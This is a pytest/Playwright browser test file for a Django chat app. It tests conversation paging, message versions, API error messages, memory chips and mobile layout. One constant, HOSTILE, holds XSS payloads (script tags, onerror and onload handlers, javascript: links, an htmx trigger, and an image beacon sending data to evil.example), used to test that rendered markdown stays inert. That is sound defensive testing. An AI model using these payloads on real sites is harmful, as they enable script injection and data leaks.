"""A conversation that is there already: paging, versions, what went wrong, and what an answer knew."""

import pytest
from django.utils import timezone
from playwright.sync_api import Page, expect

from chat.models import Conversation, Message
from tests.browser.chatting import begin, last_answer, open_conversation, say, wait_for_answer
from tests.browser.conftest import OpenPage
from tests.browser.pages import assert_accessible, assert_fits, sign_in
from tests.chat.turning import finish, make_answer, make_branch
from tests.factories import make_conversation
from tests.openai_stub import OpenAIStub, Reply
from xiajiao.models import User

FAILURES = {
    "does not accept the key": Reply(status=401, error={"message": "Incorrect API key", "code": "invalid_api_key"}),
    "too many requests": Reply(status=429, error={"message": "Slow down"}, headers={"retry-after": "0"}),
    "broke in the middle": Reply(text="word1 word2 word3 word4", cut_after=3),
    "sent an empty answer": Reply(),
}
HOSTILE = """
<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2"><iframe src="https://evil.example"></iframe>

[click](javascript:window.hacked=3) ![beacon](https://evil.example/a.png?q=secret) <svg onload="window.hacked=4">

<form action="https://evil.example"><input name="q"></form><style>body{display:none}</style>
<div hx-get="/conversations/" hx-trigger="load" hx-target="body">x</div>
"""


@pytest.fixture
def long_one(person: User) -> Conversation:
    conversation = make_conversation(agent=person.agents.get(), user=person)
    make_branch(conversation, 300)
    return conversation


def test_a_long_conversation_opens_at_its_end_and_is_read_upwards_without_a_jump(
    page: Page, long_one: Conversation
) -> None:
    open_conversation(page, long_one)
    expect(page.get_by_text("Message 299", exact=True)).to_be_in_viewport()
    assert page.locator(".message").count() == 40
    page.evaluate(
        """() => {
            const scroller = document.getElementById("scroller");
            scroller.scrollTop = 300;
            window.before = scroller.querySelector(".message").getBoundingClientRect().top;
        }"""
    )
    expect(page.locator(".message")).to_have_count(80)
    moved = page.evaluate(
        """() => [...document.querySelectorAll(".message")].at(-40).getBoundingClientRect().top - window.before"""
    )

    assert abs(moved) <= 1
    expect(page.get_by_text("Message 220", exact=True)).to_be_attached()
    while page.locator("[data-earlier]").count():
        page.locator("#scroller").evaluate("scroller => { scroller.scrollTop = 0; }")
        page.wait_for_timeout(50)
    shown = page.locator(".message-text, .message .prose").all_inner_texts()
    assert [text.strip() for text in shown] == [f"Message {number}" for number in range(300)]


def test_turning_to_another_version_leaves_the_message_where_it_is(page: Page, long_one: Conversation) -> None:
    message = long_one.messages.order_by("pk")[280]
    other = Message.objects.create(conversation=long_one, parent=message.parent, role="user", content="Another wording")
    Message.objects.create(conversation=long_one, parent=other, role="assistant", content="So it is.\n\n" * 60)
    open_conversation(page, long_one)
    shown = page.locator(f"#message-{message.pk}")
    shown.scroll_into_view_if_needed()
    before = shown.bounding_box()
    shown.get_by_role("button", name="Next version").press("Enter")
    expect(page.locator(f"#message-{other.pk}")).to_contain_text("Another wording")
    after = page.locator(f"#message-{other.pk}").bounding_box()

    assert before is not None
    assert after is not None
    assert abs(before["y"] - after["y"]) <= 1
    expect(page.locator(f"#message-{other.pk}").get_by_role("button", name="Previous version")).to_be_focused()
    page.keyboard.press("Enter")
    expect(shown.locator(".siblings")).to_contain_text("1/2")


def test_another_answer_stands_beside_the_first(page: Page, person: User, openai_stub: OpenAIStub) -> None:
    openai_stub.says("One.")
    openai_stub.says("Two.")
    begin(page, person)
    wait_for_answer(page)
    page.get_by_role("button", name="Another answer").click()
    expect(last_answer(page)).to_contain_text("Two.")
    wait_for_answer(page)
    expect(last_answer(page).locator(".siblings")).to_contain_text("2/2")
    page.get_by_role("button", name="Previous version").click()
    expect(last_answer(page)).to_contain_text("One.")

    assert Message.objects.filter(role="assistant").count() == 2


@pytest.mark.parametrize("sentence", FAILURES)
def test_what_went_wrong_is_said_and_can_be_tried_again(
    page: Page, person: User, openai_stub: OpenAIStub, sentence: str
) -> None:
    openai_stub.always(FAILURES[sentence])
    begin(page, person)
    wait_for_answer(page, "error")
    expect(last_answer(page).get_by_role("alert")).to_contain_text(sentence)
    expect(last_answer(page).get_by_role("link", name="Settings → Models")).to_have_count(0)  # for administrators
    assert_accessible(page)
    openai_stub.always(Reply(text="Better now."))
    last_answer(page).get_by_role("button", name="Try again").click()
    expect(last_answer(page)).to_contain_text("Better now.")


def test_hostile_markdown_is_inert(page: Page, person: User, openai_stub: OpenAIStub) -> None:
    openai_stub.says(HOSTILE, rate=30)
    begin(page, person)
    wait_for_answer(page)
    page.reload()
    last_answer(page).get_by_text("click").click()
    page.wait_for_timeout(200)

    assert page.evaluate("window.hacked") is None
    assert last_answer(page).locator("script, img, iframe, form, style, [hx-get*=conversations]").count() == 0
    assert page.locator("#composer-text").is_visible()


def test_chips_lead_to_what_an_answer_knew_and_on_to_the_memory(
    page: Page, person: User, openai_stub: OpenAIStub
) -> None:
    openai_stub.calls("memory_write", content="Reply to the user in short sentences.", category="procedural")
    openai_stub.says("Noted.")
    openai_stub.says("Hi.")
    begin(page, person, "Keep replies short, please")
    wait_for_answer(page)
    say(page, "Good morning")
    wait_for_answer(page, count=4)
    chip = last_answer(page).locator(".chip")
    chip.focus()
    page.keyboard.press("Enter")
    expect(page.locator("#side [data-side-title]")).to_be_focused()
    expect(page.locator("#side")).to_contain_text("Reply to the user in short sentences.")
    page.keyboard.press("Escape")
    expect(page.locator("#side")).to_be_empty()
    expect(chip).to_be_focused()
    page.keyboard.press("Enter")
    page.locator("#side").get_by_role("link", name="See and correct").click()
    expect(page.locator("#side [data-side-title]")).to_contain_text("Memory")
    expect(page.locator("#side")).to_contain_text("Reply to the user in short sentences.")
    page.keyboard.press("Escape")
    expect(page.locator("#side")).to_be_empty()


@pytest.mark.parametrize("width", [360, 390])
def test_a_phone_shows_it_all_without_scrolling_sideways(
    open_page: OpenPage, person: User, openai_stub: OpenAIStub, width: int
) -> None:
    openai_stub.says("| a | b |\n|---|---|\n| " + "wide " * 40 + "| b |\n\n```\n" + "x" * 300 + "\n```\n\n" + "y" * 300)
    page = open_page(width=width, theme="dark")
    begin(page, person, "z" * 300)
    wait_for_answer(page)
    assert_fits(page)
    composer, bar = page.locator(".composer-box").bounding_box(), page.locator(".rail").bounding_box()

    assert composer is not None
    assert bar is not None
    assert composer["y"] + composer["height"] <= bar["y"]
    assert page.locator("#scroller").evaluate("scroller => scroller.scrollWidth <= scroller.clientWidth")


def test_an_archived_agents_conversation_is_read_only(page: Page, person: User) -> None:
    conversation = finish(make_answer("Hello", agent=person.agents.get(), user=person)).conversation
    person.agents.update(archived_at=timezone.now())
    open_conversation(page, conversation)

    expect(page.get_by_text("This agent is archived")).to_be_visible()
    expect(page.locator("#composer-text")).to_have_count(0)
    assert_accessible(page)


def test_who_has_no_agent_is_led_to_making_one(page: Page, person: User) -> None:
    person.agents.update(archived_at=timezone.now())
    sign_in(page, person)
    page.goto("/")
    page.get_by_role("link", name="New agent").click()

    expect(page).to_have_url("/agents/add/")


@pytest.mark.parametrize("is_staff", [True, False])
def test_without_a_model_the_page_says_so_and_who_may_connect_one_where(
    page: Page, person: User, is_staff: bool
) -> None:
    User.objects.filter(pk=person.pk).update(is_staff=is_staff)
    begin(page, person, "I live in Shanghai")
    wait_for_answer(page)
    expect(last_answer(page).get_by_role("link", name="Connect a model")).to_have_count(int(is_staff))
    page.goto(f"/?agent={person.agents.get().pk}")

    expect(page.get_by_text("Offline mode")).to_be_visible()
    expect(page.locator(".offline-line").get_by_role("link", name="Connect a model")).to_have_count(int(is_staff))


def test_an_administrator_is_led_from_a_refused_key_to_where_it_is_mended(
    page: Page, person: User, openai_stub: OpenAIStub
) -> None:
    User.objects.filter(pk=person.pk).update(is_staff=True)
    openai_stub.always(FAILURES["does not accept the key"])
    begin(page, person)
    wait_for_answer(page, "error")
    last_answer(page).get_by_role("link", name="Settings → Models").click()
    page.wait_for_url("**/settings/models/")


def test_words_of_a_wide_table_stand_side_by_side(page: Page, person: User, openai_stub: OpenAIStub) -> None:
    row = "| 对象存储 " * 9 + "|"
    openai_stub.says("\n".join(["| 说明 " * 9 + "|", "|---" * 9 + "|", row]))
    begin(page, person)
    wait_for_answer(page)
    cell = last_answer(page).locator("td").first
    assert cell.evaluate("cell => cell.getClientRects()[0].height") < 48
    assert_fits(page)
